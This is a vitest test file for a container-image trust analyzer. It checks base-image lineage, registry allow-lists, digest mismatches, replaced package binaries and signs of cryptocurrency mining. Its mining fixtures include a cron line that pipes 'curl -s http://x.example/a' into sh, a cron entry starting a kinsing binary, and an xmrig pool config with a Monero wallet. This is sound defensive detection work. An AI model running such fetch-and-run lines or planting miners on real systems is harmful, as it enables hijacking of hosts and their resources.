import { createHash } from "node:crypto";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Look } from "../core/analyzer.ts";
import { Configuration } from "../core/configuration.ts";
import type { Fact } from "../core/fact.ts";
import { type ImageFact, imageReferences, type LineageFact } from "../core/image.ts";
import { isStream, readWith } from "../testing/read-with.ts";
import { trust } from "./index.ts";
import { keccak256 } from "./mining/keccak.ts";
import { miningPrograms, miningTexts } from "./mining/readers.ts";
import { isMoneroAddress, moneroAddressesIn } from "./mining/wallet.ts";
import { diversions, packagedHashes, programHashes } from "./packaged/readers.ts";

async function judge(analyzer: string, facts: readonly Fact[], configuration: object = {}) {
  const look = {
    facts: { of: (kind: string) => facts.filter((fact) => fact.kind === kind) },
    configuration: Configuration.parse(configuration),
    opened: { target: { kind: "image", ref: "app:1" } },
  } as unknown as Look;
  const outcome = await trust.find(({ id }) => id === analyzer)?.analyze(look);
  return (outcome?.findings ?? []).map(
    ({ rule, severity, title }) => `${rule.replace("trust/", "")} ${severity}: ${title}`,
  );
}

function image(more: Partial<ImageFact> = {}, labels: Record<string, string> = {}): ImageFact {
  return {
    kind: "image",
    at: {},
    subject: { image: "app:1" },
    reference: "registry.example.com/app:1",
    registry: "registry.example.com",
    digest: `sha256:${"ab".repeat(32)}`,
    platform: "linux/amd64",
    annotations: {},
    layers: ["sha256:base1", "sha256:base2", "sha256:own"].map((diffId, index) => ({ index, diffId, size: 1 })),
    configuration: {
      user: "",
      environment: [],
      entrypoint: [],
      command: [],
      exposedPorts: [],
      volumes: [],
      labels,
      workingDirectory: "",
      history: [],
    },
    ...more,
  };
}

function standsOn(name?: string, by: "declared" | "stored" = "declared"): LineageFact {
  return {
    kind: "lineage",
    at: {},
    ancestors: name === undefined ? [] : [{ name, by, layers: ["sha256:base1"] }],
    known: 1,
  };
}

const standard = (bases: object[], registries: string[] = []) => ({ standard: { bases, registries } });
const base = { name: "std/node", digests: ["sha256:basedigest"], diffIds: ["sha256:base1", "sha256:base2"] };
const claim = { "org.opencontainers.image.base.digest": "sha256:basedigest" };

describe("base and origin", () => {
  test("what stands on a declared base passes, whatever a label says; a claim that its layers belie is the gravest", async () => {
    expect(await judge("trust/image", [image(), standsOn("std/node")], standard([base]))).toEqual([
      "moving-tag low: registry.example.com/app:1 is named by a tag",
    ]);
    expect((await judge("trust/image", [image({}, claim), standsOn()], standard([base])))[1]).toBe(
      "unknown-base critical: the image claims a base whose layers it does not have",
    );
    expect((await judge("trust/image", [image(), standsOn()], standard([base])))[1]).toBe(
      "unknown-base high: the image descends from none of the declared bases",
    );
  });

  test("an image whose bill is stored is no approved base", async () => {
    const stored = standsOn("team/other:1", "stored");
    expect((await judge("trust/image", [image(), stored], standard([base])))[1]).toContain("unknown-base high");
  });

  test.each([
    ["registry.example.com", true],
    ["registry.example.com/team", false],
    ["other.example.com", false],
  ])("allowed %s: %s", async (allowed, fits) => {
    const found = await judge("trust/image", [image()], standard([], [allowed]));
    expect(found.some((line) => line.startsWith("foreign-registry"))).toBe(!fits);
  });

  test("what files name is held against the allowed registries, too", async () => {
    const named = [
      "node:22",
      "registry.example.com/team/app:1",
      "localhost/x",
      "ghcr.io/a/b@sha256:cc",
      "$BASE",
      "",
    ].flatMap((reference) => imageReferences(reference, { path: "Dockerfile" }));
    const found = await judge("trust/references", named, standard([], ["registry.example.com"]));
    expect(found.map((line) => line.replace("foreign-registry high: ", ""))).toEqual([
      "node:22 comes from docker.io, which is not among the allowed registries",
      "localhost/x comes from localhost, which is not among the allowed registries",
      "ghcr.io/a/b@sha256:cc comes from ghcr.io, which is not among the allowed registries",
    ]);
  });

  test("an archive has no registry and no tag to move", async () => {
    expect(
      await judge(
        "trust/image",
        [image({ reference: "oci:dir", registry: "" })],
        standard([], ["registry.example.com"]),
      ),
    ).toEqual([]);
  });

  test("bytes with another digest are the gravest of all", async () => {
    const mismatch = {
      kind: "digest-mismatch",
      at: { layer: "sha256:a" },
      subject: { layer: "sha256:a" },
      of: "layer sha256:a",
      declared: "sha256:a",
      found: "sha256:b",
    };
    expect((await judge("trust/image", [mismatch]))[0]).toContain("digest-mismatch critical");
  });
});

/** An address that nobody owns, with a right checksum. */
function address(seed: string): string {
  const body = Buffer.concat([Buffer.from([18]), createHash("sha512").update(seed).digest()]);
  const bytes = Buffer.concat([body, keccak256(body).subarray(0, 4)]);
  const sizes: Record<number, number> = { 8: 11, 5: 7 };
  const alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
  let text = "";
  for (let at = 0; at < bytes.length; at += 8) {
    const block = bytes.subarray(at, at + 8);
    let value = BigInt(`0x${block.toString("hex")}`);
    let part = "";
    for (let digit = 0; digit < (sizes[block.length] ?? 0); digit++) {
      part = `${alphabet[Number(value % 58n)]}${part}`;
      value /= 58n;
    }
    text += part;
  }
  return text;
}

describe("mining", () => {
  test.each([
    ["", "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"],
    ["abc", "4e03657aea45a94fc7d47ba826c8d667c0d1e6e33a64a036ec44f58fa12d6c45"],
  ])("keccak-256 of %j", (text, hash) => {
    expect(keccak256(Buffer.from(text)).toString("hex")).toBe(hash);
  });

  test("an address counts only with its checksum", () => {
    const wallet = address("a");
    expect(wallet).toHaveLength(95);
    expect(isMoneroAddress(wallet)).toBe(true);
    const wrong = `${wallet.slice(0, 50)}${wallet[50] === "a" ? "b" : "a"}${wallet.slice(51)}`;
    expect(isMoneroAddress(wrong)).toBe(false);
    expect(moneroAddressesIn(`user: "${wallet}", x${wallet}x`)).toEqual([wallet]);
  });

  const settings = JSON.stringify({
    "donate-level": 1,
    pools: [{ url: "stratum+tcp://xmr.nanopool.org:14444", user: address("b") }],
  });

  test("settings of a miner are an alert, a pool's name in a text is a note", async () => {
    const found = readWith(miningTexts, "opt/app/config.json", settings, { target: "image" });
    expect(found.map((fact) => (fact as { sign?: string }).sign)).toEqual([
      "pool address",
      "pool name",
      "miner configuration",
      "wallet",
    ]);
    expect(await judge("trust/compromise", found)).toEqual([
      "mining-signs critical: 4 signs of mining: miner configuration, pool address, pool name, wallet",
    ]);
    const note = readWith(miningTexts, "usr/share/x.sh", "# see nanopool.org", { target: "image" });
    expect(await judge("trust/compromise", note)).toEqual([
      "mining-signs low: one sign of mining: pool name (nanopool.org)",
    ]);
  });

  test("a program is known by its name and by the addresses in it, wherever the chunks part", () => {
    const program = Buffer.concat([
      Buffer.from("\x7fELF"),
      Buffer.alloc(5_000, 1),
      Buffer.from("stratum+ssl://pool.example:443"),
      Buffer.alloc(3_000, 1),
    ]);
    for (const size of [100, 1_000, 5_010, 9_000]) {
      const facts = readWith(miningPrograms, "usr/bin/.x/xmrig", program, {
        target: "image",
        mode: 0o755,
        chunk: size,
      });
      expect(facts.map((fact) => (fact as { sign?: string }).sign).sort()).toEqual(["miner program", "pool address"]);
    }
  });

  test("a cron job that starts one, or fetches and runs something, is a sign", () => {
    const sign = (path: string, text: string) =>
      readWith(miningTexts, path, text, { target: "image" }).map((fact) => (fact as { shown?: string }).shown);
    expect(sign("etc/cron.d/update", "* * * * * root /tmp/.a/kinsing\n")).toEqual(["starts kinsing"]);
    expect(sign("var/spool/cron/root", "* * * * * curl -s http://x.example/a | sh\n")).toEqual([
      "curl -s http://x.example/a | sh",
    ]);
    expect(sign("etc/cron.d/logrotate", "0 0 * * * root logrotate /etc/logrotate.conf\n")).toEqual([]);
  });

  test("source trees are not looked at: they may speak of mining", () => {
    expect(
      miningTexts.wants(
        { path: "a/config.json", type: "file", size: 9, mode: 0o644 },
        { target: "git", identityKey: "", explain: false },
      ),
    ).toBe(false);
  });

  test("never throws, whatever the bytes", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2_000 }), (bytes) => {
        readWith(miningTexts, "etc/cron.d/x", Buffer.from(bytes), { target: "image" });
        readWith(miningPrograms, "bin/x", Buffer.concat([Buffer.from("\x7fELF"), bytes]), {
          target: "image",
          mode: 0o755,
          chunk: 97,
        });
      }),
      { numRuns: 150 },
    );
  });
});

describe("programs against their packages", () => {
  const elf = Buffer.from("\x7fELF honest");
  const md5 = createHash("md5").update(elf).digest("hex");
  const list = readWith(
    packagedHashes,
    "var/lib/dpkg/info/openssh-server.md5sums",
    `${md5}  usr/sbin/sshd\n${md5}  lib/x.so.1\n${"0".repeat(32)}  usr/share/doc/a\n`,
  );
  const program = (path: string, bytes: Buffer) =>
    readWith(programHashes, path, bytes, { target: "image", mode: 0o755 });

  test("what is as packaged says nothing, also over a merged /usr", async () => {
    expect(
      await judge("trust/compromise", [...list, ...program("usr/sbin/sshd", elf), ...program("usr/lib/x.so.1", elf)]),
    ).toEqual([]);
  });

  test("what was replaced is found", async () => {
    const replaced = program("usr/sbin/sshd", Buffer.from("\x7fELF other"));
    expect(await judge("trust/compromise", [...list, ...replaced])).toEqual([
      "changed-package high: usr/sbin/sshd differs from the package openssh-server",
    ]);
  });

  test("a diverted path is left to whoever took it, and a hidden file does not count", async () => {
    const replaced = program("usr/sbin/sshd", Buffer.from("\x7fELF other"));
    const diverted = readWith(diversions, "var/lib/dpkg/diversions", "/usr/sbin/sshd\n/usr/sbin/sshd.real\nother\n");
    expect(await judge("trust/compromise", [...list, ...replaced, ...diverted])).toEqual([]);
    expect(
      await judge("trust/compromise", [...list, ...replaced.map((fact) => ({ ...fact, visible: false }))]),
    ).toEqual([]);
  });

  test("scripts are not hashed", () => {
    expect(program("usr/bin/x", Buffer.from("#!/bin/sh"))).toEqual([]);
    expect(isStream(programHashes)).toBe(true);
  });
});
